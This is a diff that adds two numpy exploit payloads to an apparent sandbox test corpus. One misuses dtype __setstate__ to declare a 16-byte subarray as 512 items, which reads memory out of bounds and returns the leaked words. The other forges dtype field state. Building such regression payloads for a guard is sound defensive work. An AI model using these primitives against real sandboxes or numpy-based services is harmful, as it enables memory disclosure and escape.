@@ -5318,6 +5318,25 @@ PAYLOADS = [
             x = np.zeros(1, dtype=dt)["x"][0]
             return [dt.itemsize, x.size] + [hex(int(v)) for v in x[:12]]
         """, on={VALIDATOR}, off={GUARD, EXCEPTION}),
+    Payload("numpy-dtype-setstate-subarray-larger-than-its-size", """
+        import numpy as np
+        def main():
+            # a subarray type of 16 bytes whose state says 512 items: as a field
+            # it is checked by its size, and read by its shape (4 KiB)
+            sub = np.dtype(("u8", (2,)))
+            sub.__setstate__((3, "|", (np.dtype("u8"), (512,)), None, None, 16, 8, 0))
+            rec = np.dtype([("x", sub), ("pad", "u8")])
+            x = np.zeros(1, dtype=rec)["x"][0]
+            return [x.size] + [hex(int(v)) for v in x[2:12]]
+        """, on={VALIDATOR}, off={GUARD}),
+    Payload("numpy-dtype-setstate-name-not-a-field", """
+        import numpy as np
+        def main():
+            dt = np.dtype([("x", "u8"), ("pad", "u8")])
+            dt.__setstate__((3, "|", None, ("x", "y"),
+                             {"x": (np.dtype("u8"), 0), "pad": (np.dtype("u8"), 8)}, 16, 1, 0))
+            return repr(np.zeros(1, dt))
+        """, on={VALIDATOR}, off={GUARD}),
     Payload("numpy-random-generator-freed-bit-generator-capsule-pyrun", """
         import numpy as np
 
